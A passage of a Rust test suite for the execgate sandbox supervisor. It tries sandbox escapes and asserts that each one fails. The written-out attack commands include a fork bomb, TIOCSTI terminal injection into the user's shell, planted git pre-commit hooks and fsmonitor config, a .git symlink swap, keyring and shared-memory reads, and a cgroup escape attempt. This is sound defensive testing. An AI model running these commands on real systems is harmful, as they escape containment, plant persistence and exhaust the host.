//! Attacks on the sandbox itself (issue #15), as root, `workspace-write`: what the
//! sandboxed tree can reach of the host. Each test drives the real `execgate supervise`
//! with real bash and observes the effect OUTSIDE the session: the host's hostname, a SysV
//! segment and a key made by a process outside, a listener outside that must receive
//! nothing, a canary under /var/lib (outside the workdir, /tmp and $TMPDIR, the writable
//! roots), an interactive shell on the same terminal. Both backends.
//!
//! The probes are `tests/helpers/attack_probe.c`, one syscall each. A test whose attack
//! still succeeds on the current code is `#[ignore]`d with what got out.

#![cfg(target_os = "linux")]

use std::fs;
use std::io::ErrorKind;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

mod common;
use common::{EXECGATE, Output, Scratch, wait_bounded};

mod attack_harness;
use attack_harness::{
    Backend, Canary, Unotify, Wrapper, attack_fixture, compile, outside, pieces, run, sh_quote,
    skip_unless_available, supervise_command, supervise_command_loading,
};

fn probe(s: &Scratch) -> String {
    compile("attack_probe", &s.work, false)
        .to_str()
        .unwrap()
        .to_string()
}

// ---------------------------------------------------------------------------------------
// 1: no capability inside
// ---------------------------------------------------------------------------------------

fn no_capabilities_inside(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let out = run(
        &s,
        b,
        &[],
        &[],
        "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status",
    );
    let sets: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(sets.len(), 5, "{out:#?}");
    for line in sets {
        assert!(
            line.ends_with("\t0000000000000000"),
            "escaped: a capability set inside is not empty: {line}\n{out:#?}"
        );
    }
}

#[test]
fn no_capability_inside_unotify() {
    no_capabilities_inside(Unotify)
}
#[test]
fn no_capability_inside_wrapper() {
    no_capabilities_inside(Wrapper)
}

/// The descendants of `root` (children by `/proc/PID/stat`'s ppid, transitively).
fn descendants(root: u32) -> Vec<u32> {
    let mut parent_of: Vec<(u32, u32)> = Vec::new();
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(stat) = fs::read_to_string(format!("/proc/{pid}/stat")) else {
            continue;
        };
        // The fields after the command (which may hold spaces): state, ppid.
        let Some(rest) = stat.rsplit_once(')').map(|(_, r)| r) else {
            continue;
        };
        if let Some(ppid) = rest.split_whitespace().nth(1).and_then(|p| p.parse().ok()) {
            parent_of.push((pid, ppid));
        }
    }
    let mut found = vec![root];
    let mut at = 0;
    while at < found.len() {
        let parent = found[at];
        found.extend(
            parent_of
                .iter()
                .filter(|(_, ppid)| *ppid == parent)
                .map(|(pid, _)| *pid),
        );
        at += 1;
    }
    found.remove(0);
    found
}

/// Every process of the tree, read from OUTSIDE while the session runs: the program,
/// what it started, and the processes above it in the sandbox (the PID namespace's init
/// and its parent, forks of the supervisor): every capability set empty, and every one
/// still in the session's cgroup after trying to move itself to the root cgroup.
fn every_process_holds_no_capability(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let ready = s.path("ready");
    let mut cmd = supervise_command(
        &s,
        b,
        &[],
        &[],
        &format!(
            "echo 0 > /sys/fs/cgroup/cgroup.procs; echo \"move=$?\"; \
             sleep 30 & touch {}; wait",
            ready.display()
        ),
    );
    cmd.stdin(Stdio::null())
        .stdout(fs::File::create(s.io.join("stdout")).unwrap())
        .stderr(fs::File::create(s.io.join("stderr")).unwrap());
    let mut child = cmd.spawn().unwrap();
    let start = Instant::now();
    while !ready.exists() && start.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(20));
    }
    // Not the supervisor's own helpers (its watchdog: a direct child with no children),
    // which are outside the session by design.
    let all = descendants(child.id());
    let children_of = |pid: u32| {
        fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default()
    };
    let direct = children_of(child.id());
    let tree: Vec<u32> = all
        .into_iter()
        .filter(|pid| {
            !(direct.split_whitespace().any(|c| c == pid.to_string())
                && children_of(*pid).trim().is_empty())
        })
        .collect();
    let mut report = Vec::new();
    for pid in &tree {
        let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let cgroup = fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap_or_default();
        let name = status.lines().next().unwrap_or_default().to_string();
        for line in status.lines().filter(|l| l.starts_with("Cap")) {
            if !line.ends_with("\t0000000000000000") {
                report.push(format!("{pid} {name}: {line}"));
            }
        }
        if !cgroup.is_empty() && !cgroup.contains("/execgate/") {
            report.push(format!("{pid} {name}: left its cgroup: {cgroup}"));
        }
    }
    let _ = child.kill();
    let _ = child.wait();
    assert!(
        ready.exists(),
        "the session did not start: {}",
        s.read_io("stderr")
    );
    // The program, sleep, and (with a PID namespace) its init and the process above it.
    assert!(tree.len() >= 2, "too few processes seen: {tree:?}");
    assert!(
        report.is_empty(),
        "escaped: a process of the tree holds a capability or left its cgroup:\n{}\n{}",
        report.join("\n"),
        s.read_io("stdout")
    );
}

#[test]
fn every_process_of_the_tree_holds_no_capability_unotify() {
    every_process_holds_no_capability(Unotify)
}
#[test]
fn every_process_of_the_tree_holds_no_capability_wrapper() {
    every_process_holds_no_capability(Wrapper)
}

// ---------------------------------------------------------------------------------------
// 2: IPC and UTS namespaces
// ---------------------------------------------------------------------------------------

/// A lock between test processes: a directory that exists while held (taken over after a
/// minute, should a holder have died without its drop).
struct DirLock(PathBuf);

impl DirLock {
    fn take(path: &Path) -> DirLock {
        let start = Instant::now();
        while fs::create_dir(path).is_err() && start.elapsed() < Duration::from_secs(60) {
            std::thread::sleep(Duration::from_millis(50));
        }
        DirLock(path.to_path_buf())
    }
}

impl Drop for DirLock {
    fn drop(&mut self) {
        let _ = fs::remove_dir(&self.0);
    }
}

fn hostname() -> String {
    fs::read_to_string("/proc/sys/kernel/hostname")
        .unwrap()
        .trim()
        .to_string()
}

fn hostname_change_stays_inside(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let p = probe(&s);
    // One hostname test at a time (tests run in parallel processes): a concurrent one
    // could restore the name between our run and our look, and hide the escape.
    let _lock = DirLock::take(Path::new("/tmp/execgate-attack-hostname.lock"));
    let before = hostname();
    let attacked = format!("execgate-attacked-{}", std::process::id());
    let out = run(
        &s,
        b,
        &[],
        &[],
        &format!("{p} sethostname {attacked}; echo \"sethostname=$?\""),
    );
    let after = hostname();
    if after != before {
        // Put the machine's name back before failing.
        outside(&p, &["sethostname", &before], &s.work);
    }
    assert_eq!(
        after, before,
        "escaped: the session renamed the host\n{out:#?}"
    );
}

#[test]
fn hostname_change_does_not_reach_the_host_unotify() {
    hostname_change_stays_inside(Unotify)
}
#[test]
fn hostname_change_does_not_reach_the_host_wrapper() {
    hostname_change_stays_inside(Wrapper)
}

fn sysv_segment_outside_unreachable(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let p = probe(&s);
    let id = outside(&p, &["shm-create", "outside"], &s.work)
        .trim()
        .to_string();
    let out = run(
        &s,
        b,
        &[],
        &[],
        &format!("{p} shm-read {id}; {p} shm-write {id} pwned; echo \"write=$?\""),
    );
    let now = outside(&p, &["shm-read", &id], &s.work);
    outside(&p, &["shm-rm", &id], &s.work);
    assert_eq!(
        now.trim(),
        "outside",
        "escaped: the session wrote the segment of a process outside\n{out:#?}"
    );
    assert!(
        !out.stdout.contains("outside"),
        "escaped: the session read the segment of a process outside\n{out:#?}"
    );
}

#[test]
fn sysv_segment_of_a_process_outside_is_unreachable_unotify() {
    sysv_segment_outside_unreachable(Unotify)
}
#[test]
fn sysv_segment_of_a_process_outside_is_unreachable_wrapper() {
    sysv_segment_outside_unreachable(Wrapper)
}

// ---------------------------------------------------------------------------------------
// 3: the seccomp filter refuses what a host never wants touched
// ---------------------------------------------------------------------------------------

fn user_keyring_unreadable(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let p = probe(&s);
    let desc = format!("execgate-attack-{}", std::process::id());
    let secret = format!("s3cret-{}", std::process::id());
    let serial = outside(&p, &["key-add", &desc, &secret], &s.work)
        .trim()
        .to_string();
    let out = run(
        &s,
        b,
        &[],
        &[],
        &format!("{p} key-read {desc} {serial} > leak; echo \"read=$?\""),
    );
    outside(&p, &["key-rm", &serial], &s.work);
    let leaked = fs::read_to_string(s.path("leak")).unwrap_or_default();
    assert!(
        !leaked.contains(&secret),
        "escaped: the session read root's user keyring: {leaked:?}\n{out:#?}"
    );
}

#[test]
fn roots_user_keyring_is_unreadable_unotify() {
    user_keyring_unreadable(Unotify)
}
#[test]
fn roots_user_keyring_is_unreadable_wrapper() {
    user_keyring_unreadable(Wrapper)
}

/// `probe CALL` inside must fail with EPERM (as it would unprivileged).
fn syscall_refused(b: Backend, call: &str) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let p = probe(&s);
    let out = run(&s, b, &[], &[], &format!("{p} {call}; echo \"{call}=$?\""));
    assert_eq!(
        out.stdout,
        format!("{call}=1\n"),
        "escaped: {call} succeeded inside\n{out:#?}"
    );
    assert!(
        out.stderr.contains("Operation not permitted"),
        "refused with EPERM: {out:#?}"
    );
}

#[test]
fn fanotify_init_is_refused_unotify() {
    syscall_refused(Unotify, "fanotify")
}
#[test]
fn fanotify_init_is_refused_wrapper() {
    syscall_refused(Wrapper, "fanotify")
}
#[test]
fn bpf_is_refused_unotify() {
    syscall_refused(Unotify, "bpf")
}
#[test]
fn bpf_is_refused_wrapper() {
    syscall_refused(Wrapper, "bpf")
}
#[test]
fn perf_event_open_is_refused_unotify() {
    syscall_refused(Unotify, "perf")
}
#[test]
fn perf_event_open_is_refused_wrapper() {
    syscall_refused(Wrapper, "perf")
}

#[test]
fn reading_the_kernel_log_is_refused_unotify() {
    syscall_refused(Unotify, "syslog")
}
#[test]
fn reading_the_kernel_log_is_refused_wrapper() {
    syscall_refused(Wrapper, "syslog")
}

// ---------------------------------------------------------------------------------------
// 4: the terminal stays the person's
// ---------------------------------------------------------------------------------------

/// `execgate supervise ... -- bash -c SCRIPT` as one sh command line, run in the workdir.
fn shell_line(s: &Scratch, b: Backend, rules: &[&str], args: &[&str], script: &str) -> String {
    let mut line = format!(
        "cd {} && {} supervise --no-default-rules --backend {}",
        sh_quote(s.work.to_str().unwrap()),
        sh_quote(EXECGATE),
        b.name()
    );
    for r in rules {
        line += &format!(" --rules {}", sh_quote(attack_fixture(r).to_str().unwrap()));
    }
    if b == Wrapper {
        let p = pieces().unwrap();
        line = format!(
            "EXECGATE_EXECVE_WRAPPER={} {line} --patched-bash {}",
            sh_quote(p.wrapper.to_str().unwrap()),
            sh_quote(p.bash.to_str().unwrap())
        );
        line = format!("export {}", line.replacen(' ', "; ", 1));
    }
    for a in args {
        line += &format!(" {}", sh_quote(a));
    }
    line + &format!(" -- bash -c {}", sh_quote(script))
}

/// The session pushes `y\n` into its terminal with TIOCSTI, then runs a command behind a
/// `prompt` rule. The person (the test) answers `n` once the question shows. The escalated
/// command must not have run.
fn prompt_answered_from_inside(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let c = Canary::new();
    let p = probe(&s);
    let script = format!(
        "{p} tiocsti 'y\\n'; touch {canary}; echo \"touch=$?\"",
        canary = c.p("canary")
    );
    let line = shell_line(&s, b, &["prompt.rules"], &[], &script);
    let run = attack_harness::on_pty(&line, 30, &[("execgate: allow", "n\\n")], &[]);
    assert!(
        !c.path("canary").exists(),
        "escaped: the session answered its own question and touch ran outside\n{run:#?}"
    );
}

#[test]
fn a_prompt_cannot_be_answered_from_inside_unotify() {
    prompt_answered_from_inside(Unotify)
}
#[test]
fn a_prompt_cannot_be_answered_from_inside_wrapper() {
    prompt_answered_from_inside(Wrapper)
}

/// The session pushes a command line into its terminal with TIOCSTI; the person's
/// interactive shell, on the same terminal after execgate exits, must not run it.
fn tiocsti_into_the_users_shell(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let c = Canary::new();
    let p = probe(&s);
    let script = format!(
        "{p} tiocsti 'echo leaked > {leak}\\n'; echo \"tiocsti=$?\"",
        leak = c.p("leak")
    );
    let line = shell_line(&s, b, &[], &[], &script) + "; exec bash --norc --noprofile -i";
    let run = attack_harness::on_pty(
        &line,
        30,
        &[("USER-SHELL>", "exit\\n")],
        &[("PS1", "USER-SHELL> ")],
    );
    assert!(
        !c.path("leak").exists(),
        "escaped: the person's shell ran a line the session typed into the terminal\n{run:#?}"
    );
}

#[test]
fn tiocsti_cannot_type_into_the_users_shell_unotify() {
    tiocsti_into_the_users_shell(Unotify)
}
#[test]
fn tiocsti_cannot_type_into_the_users_shell_wrapper() {
    tiocsti_into_the_users_shell(Wrapper)
}

// ---------------------------------------------------------------------------------------
// 7: the agent cannot plant what runs later outside
// ---------------------------------------------------------------------------------------

fn nested_repository_hooks_and_config(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    outside("git", &["init", "-q", "-b", "main"], &s.work);
    fs::create_dir(s.path("nested")).unwrap();
    outside("git", &["init", "-q", "-b", "main"], &s.path("nested"));
    let config_before = fs::read_to_string(s.path("nested/.git/config")).unwrap();
    let out = run(
        &s,
        b,
        &[],
        &[],
        "printf '#!/bin/sh\\necho planted\\n' > nested/.git/hooks/pre-commit; echo \"hook=$?\"
         printf '[core]\\n\\tfsmonitor = ./planted\\n' >> nested/.git/config; echo \"config=$?\"",
    );
    assert!(
        !s.path("nested/.git/hooks/pre-commit").exists(),
        "escaped: a pre-commit hook was planted in a nested repository\n{out:#?}"
    );
    assert_eq!(
        fs::read_to_string(s.path("nested/.git/config")).unwrap(),
        config_before,
        "escaped: a nested repository's config was changed\n{out:#?}"
    );
}

#[test]
fn a_nested_repositorys_hooks_and_config_are_read_only_unotify() {
    nested_repository_hooks_and_config(Unotify)
}
#[test]
fn a_nested_repositorys_hooks_and_config_are_read_only_wrapper() {
    nested_repository_hooks_and_config(Wrapper)
}

/// What the supervisor sets aside at a session's end must stay beneath the writable root:
/// a session that turns a protected path's parent (a nested repository's `.git`) into a
/// symlink to a directory outside must not make the supervisor rename a file there (seen
/// outside: the canary directory's `config`, `hooks` and `commondir` are all still there).
fn set_aside_follows_no_symlink(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let c = Canary::new();
    for name in ["config", "hooks", "commondir"] {
        fs::write(c.path(name), "the host's\n").unwrap();
    }
    fs::create_dir(s.path("nested")).unwrap();
    outside("git", &["init", "-q", "-b", "main"], &s.path("nested"));
    let out = run(
        &s,
        b,
        &[],
        &[],
        &format!(
            "sh -c 'mv nested/.git nested/old-git && ln -s {} nested/.git'; echo \"swap=$?\"",
            c.dir.display()
        ),
    );
    for name in ["config", "hooks", "commondir"] {
        assert!(
            c.path(name).exists(),
            "escaped: the supervisor renamed {} outside every writable root\n{out:#?}\n{:?}",
            c.path(name).display(),
            fs::read_dir(&c.dir)
                .unwrap()
                .map(|e| e.unwrap().file_name())
                .collect::<Vec<_>>()
        );
    }
}

#[test]
fn setting_aside_at_the_end_follows_no_symlink_out_unotify() {
    set_aside_follows_no_symlink(Unotify)
}
#[test]
fn setting_aside_at_the_end_follows_no_symlink_out_wrapper() {
    set_aside_follows_no_symlink(Wrapper)
}

// ---------------------------------------------------------------------------------------
// 8: network off means no daemons either
// ---------------------------------------------------------------------------------------

fn unix_socket_outside_unreachable(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let c = Canary::new();
    let p = probe(&s);
    let sock = c.path("daemon.sock");
    let listener = UnixListener::bind(&sock).unwrap();
    let out = run(
        &s,
        b,
        &[],
        &[],
        &format!("{p} unix-connect {}; echo \"connect=$?\"", sock.display()),
    );
    listener.set_nonblocking(true).unwrap();
    match listener.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        Err(e) => panic!("accept: {e}"),
        Ok(_) => panic!(
            "escaped: a unix socket listening outside got a connection with the network off\n{out:#?}"
        ),
    }
}

#[test]
fn a_unix_socket_outside_receives_nothing_unotify() {
    unix_socket_outside_unreachable(Unotify)
}
#[test]
fn a_unix_socket_outside_receives_nothing_wrapper() {
    unix_socket_outside_unreachable(Wrapper)
}

/// What must keep working with the network off: a server the session starts itself on a
/// socket file (bound by a relative path, connected by another process) and on an abstract
/// name. A test suite's local server, an agent started inside.
fn own_unix_sockets_work(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let name = format!("execgate-own-{}-{}", std::process::id(), b.name());
    let script = format!(
        r#"python3 - <<'PY'
import os, socket, subprocess, sys
for addr in ["own.sock", "\0{name}"]:
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(addr)
    srv.listen(1)
    shown = addr.replace("\0", "@")
    client = subprocess.run([sys.executable, "-c",
        "import socket,sys; c=socket.socket(socket.AF_UNIX); c.connect(sys.argv[1].replace('@', chr(0))); c.sendall(b'ping')",
        shown])
    conn, _ = srv.accept()
    print(shown, client.returncode, conn.recv(4).decode(), flush=True)
PY"#
    );
    let out = run(&s, b, &[], &[], &script);
    assert!(
        out.stdout.contains("own.sock 0 ping") && out.stdout.contains(&format!("@{name} 0 ping")),
        "the session's own unix sockets stopped working with the network off\n{out:#?}"
    );
}

#[test]
fn the_sessions_own_unix_sockets_work_unotify() {
    own_unix_sockets_work(Unotify)
}
#[test]
fn the_sessions_own_unix_sockets_work_wrapper() {
    own_unix_sockets_work(Wrapper)
}

// ---------------------------------------------------------------------------------------
// 9: bounded
// ---------------------------------------------------------------------------------------

/// A pids cgroup (v1 `pids` hierarchy, or none) around the whole run, as a safety net for
/// the host: the session's own limits must stop the bomb before this net does.
struct PidsNet {
    dir: PathBuf,
}

const NET_PIDS: u32 = 1024;

impl PidsNet {
    fn new() -> Option<PidsNet> {
        let root = Path::new("/sys/fs/cgroup/pids");
        if !root.join("cgroup.procs").exists() {
            return None;
        }
        let dir = root.join(format!("execgate-attack-{}", std::process::id()));
        fs::create_dir(&dir).ok()?;
        fs::write(dir.join("pids.max"), NET_PIDS.to_string()).ok()?;
        Some(PidsNet { dir })
    }

    /// How often the net refused a fork.
    fn hits(&self) -> u64 {
        fs::read_to_string(self.dir.join("pids.events"))
            .unwrap_or_default()
            .lines()
            .find_map(|l| l.strip_prefix("max "))
            .and_then(|n| n.trim().parse().ok())
            .unwrap_or(0)
    }
}

impl Drop for PidsNet {
    fn drop(&mut self) {
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(10) {
            let procs = fs::read_to_string(self.dir.join("cgroup.procs")).unwrap_or_default();
            if procs.trim().is_empty() {
                break;
            }
            for pid in procs.lines() {
                let _ = Command::new("kill").args(["-KILL", pid]).status();
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        let _ = fs::remove_dir(&self.dir);
    }
}

/// A fork bomb inside (in the foreground: the session lives until `--timeout 10`), with
/// the session's default limits: it must be stopped by the session (a pids limit on its
/// cgroup, which must be below this test's own net of 1024 pids), and the session must end
/// by `--timeout` (124) with the tree gone. The net (a v1 pids cgroup around execgate)
/// keeps the host responsive whatever the session does.
fn fork_bomb(b: Backend, extra: &[&str]) {
    skip_unless_available!(b);
    // One bomb at a time on the machine.
    let _lock = DirLock::take(Path::new("/tmp/execgate-attack-fork-bomb.lock"));
    let Some(net) = PidsNet::new() else {
        testkit::skip("no v1 pids hierarchy for the test's safety net; not running a fork bomb");
        return;
    };
    let s = Scratch::new();
    let mut args = vec!["--timeout", "10"];
    args.extend_from_slice(extra);
    let inner = supervise_command(
        &s,
        b,
        &[],
        &args,
        "echo started; bomb() { bomb | bomb; }; bomb",
    );
    let mut cmd = Command::new("sh");
    cmd.arg("-c")
        .arg(format!(
            "echo $$ > {}/cgroup.procs && exec \"$@\"",
            net.dir.display()
        ))
        .arg("sh")
        .arg(inner.get_program())
        .args(inner.get_args())
        .current_dir(&s.work);
    for (k, v) in inner.get_envs() {
        if let Some(v) = v {
            cmd.env(k, v);
        }
    }
    cmd.stdin(Stdio::null())
        .stdout(fs::File::create(s.io.join("stdout")).unwrap())
        .stderr(fs::File::create(s.io.join("stderr")).unwrap());
    let mut child = cmd.spawn().unwrap();
    let status = wait_bounded(&mut child, || s.read_io("stderr"));
    let out = Output {
        status,
        stdout: s.read_io("stdout"),
        stderr: s.read_io("stderr"),
    };
    let stderr_head: String = out.stderr.chars().take(2000).collect();
    assert!(
        out.stdout.starts_with("started\n"),
        "the bomb did not start: {:?} {stderr_head}",
        out.status
    );
    // The tree is gone once execgate has exited (nothing of it left in the net).
    let start = Instant::now();
    let left = loop {
        let procs = fs::read_to_string(net.dir.join("cgroup.procs")).unwrap_or_default();
        if procs.trim().is_empty() || start.elapsed() > Duration::from_secs(5) {
            break procs.lines().count();
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_eq!(
        left, 0,
        "processes of the bomb outlived the session: {stderr_head}"
    );
    assert_eq!(
        net.hits(),
        0,
        "escaped: the bomb reached the test's own net of {NET_PIDS} pids (no session limit)\nstatus {:?}\n{stderr_head}",
        out.status
    );
    assert_eq!(
        out.status.code(),
        Some(124),
        "ended by --timeout: {stderr_head}"
    );
}

#[test]
fn a_fork_bomb_is_contained_by_default_unotify() {
    fork_bomb(Unotify, &[])
}
#[test]
fn a_fork_bomb_is_contained_by_default_wrapper() {
    fork_bomb(Wrapper, &[])
}
#[test]
fn a_fork_bomb_is_contained_by_pids_max_unotify() {
    fork_bomb(Unotify, &["--pids-max", "200"])
}

/// An open question holds a session at most `--prompt-timeout`: waiting for a person does
/// not count against `--timeout` (DESIGN: the stopwatch pauses while asking), so what ends
/// a session whose question nobody answers is the question's own limit, then `--timeout`.
fn timeout_with_an_open_question(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let c = Canary::new();
    let script = format!("touch {}; echo \"touch=$?\"; sleep 60", c.p("canary"));
    let line = shell_line(
        &s,
        b,
        &["prompt.rules"],
        &["--timeout", "3", "--prompt-timeout", "2"],
        &script,
    );
    let started = Instant::now();
    let run = attack_harness::on_pty(&line, 25, &[], &[]);
    assert!(
        run.transcript.contains("execgate: allow"),
        "the question was asked: {run:#?}"
    );
    assert!(run.transcript.contains("touch=126"), "{run:#?}");
    assert_eq!(
        run.code,
        Some(124),
        "the session outlived --timeout 3 + --prompt-timeout 2 ({:?}) with its question open\n{run:#?}",
        started.elapsed()
    );
    assert!(started.elapsed() < Duration::from_secs(20), "{run:#?}");
    assert!(!c.path("canary").exists(), "{run:#?}");
}

#[test]
fn an_open_question_holds_a_session_at_most_the_prompt_timeout_unotify() {
    timeout_with_an_open_question(Unotify)
}
#[test]
fn an_open_question_holds_a_session_at_most_the_prompt_timeout_wrapper() {
    timeout_with_an_open_question(Wrapper)
}

/// `--prompt-timeout 2`: a question unanswered that long is denied (126), and the
/// session goes on.
fn prompt_timeout_denies(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let c = Canary::new();
    let script = format!("touch {}; echo \"touch=$?\"", c.p("canary"));
    let line = shell_line(
        &s,
        b,
        &["prompt.rules"],
        &["--prompt-timeout", "2"],
        &script,
    );
    let run = attack_harness::on_pty(&line, 25, &[], &[]);
    assert!(!c.path("canary").exists(), "{run:#?}");
    assert!(run.transcript.contains("touch=126"), "{run:#?}");
    assert_eq!(run.code, Some(0), "{run:#?}");
}

#[test]
fn an_unanswered_prompt_times_out_as_deny_unotify() {
    prompt_timeout_denies(Unotify)
}
#[test]
fn an_unanswered_prompt_times_out_as_deny_wrapper() {
    prompt_timeout_denies(Wrapper)
}

#[test]
fn a_fork_bomb_is_contained_by_pids_max_wrapper() {
    fork_bomb(Wrapper, &["--pids-max", "200"])
}

// ---------------------------------------------------------------------------------------
// 6: sessions get an environment built on purpose
// ---------------------------------------------------------------------------------------

/// A credential-looking variable of the supervisor's environment is not in the session's
/// unless named with `--pass-env`; the session writes what it sees into the workdir.
fn secret_environment(b: Backend, pass: bool) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let args: &[&str] = if pass {
        &["--pass-env", "OPENAI_API_KEY"]
    } else {
        &[]
    };
    let mut cmd = supervise_command(
        &s,
        b,
        &[],
        args,
        "echo \"${OPENAI_API_KEY-unset} ${PLAIN-unset}\" > seen",
    );
    cmd.env("OPENAI_API_KEY", "sk-attack-secret")
        .env("PLAIN", "plain")
        .stdin(Stdio::null())
        .stdout(fs::File::create(s.io.join("stdout")).unwrap())
        .stderr(fs::File::create(s.io.join("stderr")).unwrap());
    let mut child = cmd.spawn().unwrap();
    let status = wait_bounded(&mut child, || s.read_io("stderr"));
    let seen = fs::read_to_string(s.path("seen")).unwrap_or_default();
    let want = if pass {
        "sk-attack-secret plain\n"
    } else {
        "unset plain\n"
    };
    assert_eq!(seen, want, "{status:?} {}", s.read_io("stderr"));
}

#[test]
fn a_credential_variable_is_not_passed_by_default_unotify() {
    secret_environment(Unotify, false)
}
#[test]
fn a_credential_variable_is_not_passed_by_default_wrapper() {
    secret_environment(Wrapper, false)
}
#[test]
fn pass_env_passes_a_named_credential_variable_unotify() {
    secret_environment(Unotify, true)
}

/// `--allow-unix-socket PATH`: that socket is connectable with the network off, another
/// one outside is not.
fn allowed_unix_socket(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let c = Canary::new();
    let p = probe(&s);
    let allowed = c.path("allowed.sock");
    let other = c.path("other.sock");
    let allowed_l = UnixListener::bind(&allowed).unwrap();
    let other_l = UnixListener::bind(&other).unwrap();
    let out = run(
        &s,
        b,
        &[],
        &["--allow-unix-socket", allowed.to_str().unwrap()],
        &format!(
            "{p} unix-connect {}; echo \"allowed=$?\"; {p} unix-connect {}; echo \"other=$?\"",
            allowed.display(),
            other.display()
        ),
    );
    allowed_l.set_nonblocking(true).unwrap();
    other_l.set_nonblocking(true).unwrap();
    assert!(
        matches!(other_l.accept(), Err(e) if e.kind() == ErrorKind::WouldBlock),
        "escaped: a socket not named got a connection\n{out:#?}"
    );
    assert!(
        allowed_l.accept().is_ok(),
        "the named socket got no connection\n{out:#?}"
    );
}

#[test]
fn allow_unix_socket_opens_only_the_named_socket_unotify() {
    allowed_unix_socket(Unotify)
}
#[test]
fn allow_unix_socket_opens_only_the_named_socket_wrapper() {
    allowed_unix_socket(Wrapper)
}

/// An abstract unix socket listening outside (no file: Landlock's filesystem rules do not
/// see it; its scoping, ABI 6, does) receives nothing with the network off.
fn abstract_unix_socket_outside(b: Backend) {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::SocketAddr;
    skip_unless_available!(b);
    let s = Scratch::new();
    let p = probe(&s);
    let name = format!("execgate-attack-{}-{}", std::process::id(), b.name());
    let addr = SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = UnixListener::bind_addr(&addr).unwrap();
    let out = run(
        &s,
        b,
        &[],
        &[],
        &format!("{p} unix-connect @{name}; echo \"connect=$?\""),
    );
    listener.set_nonblocking(true).unwrap();
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == ErrorKind::WouldBlock),
        "escaped: an abstract unix socket outside got a connection with the network off\n{out:#?}"
    );
}

#[test]
fn an_abstract_unix_socket_outside_receives_nothing_unotify() {
    abstract_unix_socket_outside(Unotify)
}
#[test]
fn an_abstract_unix_socket_outside_receives_nothing_wrapper() {
    abstract_unix_socket_outside(Wrapper)
}

// ---------------------------------------------------------------------------------------
// 9: bounded (memory)
// ---------------------------------------------------------------------------------------

/// A session that grows past `--memory-max` is stopped by its cgroup (the kernel's OOM
/// killer, inside the session only), and the same program under `--memory-max max` gets
/// its memory: the limit, not the program, is what stopped it.
fn memory_max(b: Backend) {
    skip_unless_available!(b);
    let script = "x=$(head -c 100000000 /dev/zero | tr '\\0' a); echo \"held=${#x}\"";
    let s = Scratch::new();
    let out = run(&s, b, &[], &["--memory-max", "32M"], script);
    assert!(
        !out.stdout.contains("held=100000000"),
        "escaped: 100 MB held under --memory-max 32M\n{out:#?}"
    );
    assert_ne!(out.status.code(), Some(0), "{out:#?}");
    let s = Scratch::new();
    let out = run(&s, b, &[], &["--memory-max", "max"], script);
    assert!(out.stdout.contains("held=100000000"), "{out:#?}");
}

#[test]
fn memory_max_stops_a_session_that_grows_past_it_unotify() {
    memory_max(Unotify)
}
#[test]
fn memory_max_stops_a_session_that_grows_past_it_wrapper() {
    memory_max(Wrapper)
}

// ---------------------------------------------------------------------------------------
// 7 (continued): submodules, linked worktrees, start-up files; git still works inside
// ---------------------------------------------------------------------------------------

/// `sub` is a submodule of the workdir's repository (its git directory in
/// `.git/modules/sub`, a `gitdir:` file in `sub/.git`); `wt` a linked worktree of `nested`.
fn submodule_and_worktree_fixture(s: &Scratch) {
    outside("git", &["init", "-q", "-b", "main"], &s.work);
    let origin = s.path("origin");
    fs::create_dir(&origin).unwrap();
    outside("git", &["init", "-q", "-b", "main"], &origin);
    fs::write(origin.join("f"), "one\n").unwrap();
    outside("git", &["add", "f"], &origin);
    outside("git", &["commit", "-q", "-m", "one"], &origin);
    outside(
        "git",
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            "./origin",
            "sub",
        ],
        &s.work,
    );
    outside("git", &["worktree", "add", "-q", "../wt"], &origin);
}

fn submodules_and_worktrees_are_read_only(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    submodule_and_worktree_fixture(&s);
    let modules = s.path(".git/modules/sub");
    assert!(
        modules.join("config").exists(),
        "fixture: no submodule git dir"
    );
    let wt_gitdir = s.path("origin/.git/worktrees/wt");
    let before: Vec<(PathBuf, String)> = [
        modules.join("config"),
        s.path("sub/.git"),
        s.path("wt/.git"),
        wt_gitdir.join("commondir"),
        s.path("origin/.git/config"),
    ]
    .into_iter()
    .map(|p| {
        let text = fs::read_to_string(&p).unwrap();
        (p, text)
    })
    .collect();
    let out = run(
        &s,
        b,
        &[],
        &[],
